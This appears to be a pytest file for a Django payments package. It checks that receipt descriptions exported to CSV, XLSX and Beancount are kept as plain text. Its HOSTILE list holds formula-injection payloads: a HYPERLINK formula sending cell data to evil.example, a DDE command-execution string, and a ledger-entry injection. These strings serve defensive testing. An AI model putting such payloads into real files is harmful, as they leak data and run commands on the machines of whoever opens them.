"""Threat 24: text of others in a bookkeeper's file, which a spreadsheet would execute."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from beancount.core.data import Open, Transaction
from beancount.parser.parser import parse_string
from django.contrib.auth.models import User
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from tests.admin.rows import make_rule
from x402_django.models import Receipt

pytestmark = [pytest.mark.django_db, pytest.mark.urls("tests.urls")]

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "＝1+1",
    'x"\n2020-01-01 open Assets:Evil\n2020-01-01 * "a',
    'x\\" "y',
]


@pytest.fixture
def export(db: None) -> Any:
    client = Client()
    client.force_login(User.objects.create_superuser("merchant", password="x"))
    day = Receipt.objects.values_list("issued_at", flat=True)

    def get(file_format: str) -> bytes:
        first = day.first().date().isoformat()  # type: ignore[union-attr]
        query = f"first={first}&last={first}&subject=receipts&file_format={file_format}"
        answer = client.get(f"{reverse('admin:x402_django_receipt_export')}?{query}")
        assert answer.status_code == 200
        return b"".join(answer.streaming_content)  # type: ignore[attr-defined]

    return get


@pytest.mark.parametrize("text", HOSTILE)
def test_t24_a_description_is_text_in_every_format(text: str, buyer: Any, export: Any) -> None:
    """From the price rule through a sale into the file."""
    make_rule(description=text)
    assert buyer.pay("GET", "/articles/a/").status_code == 200
    assert Receipt.objects.get().description == text

    (row,) = csv.DictReader(io.StringIO(export("csv").decode(), newline=""))
    cell = row["description"]
    assert cell.lstrip(" ")[0] not in "=+-@\t\r\n＝＋－＠"
    assert cell.removeprefix("'") == text

    sheet = load_workbook(io.BytesIO(export("xlsx"))).active
    assert {cell.data_type for row in sheet.iter_rows() for cell in row} <= {"s", "n"}

    entries, errors, _options = parse_string(export("beancount").decode())
    assert errors == []
    (sale,) = [entry for entry in entries if isinstance(entry, Transaction)]
    assert " ".join(sale.narration.split()) == " ".join(text.split())
    assert [one.account for one in entries if isinstance(one, Open) and "Evil" in one.account] == []
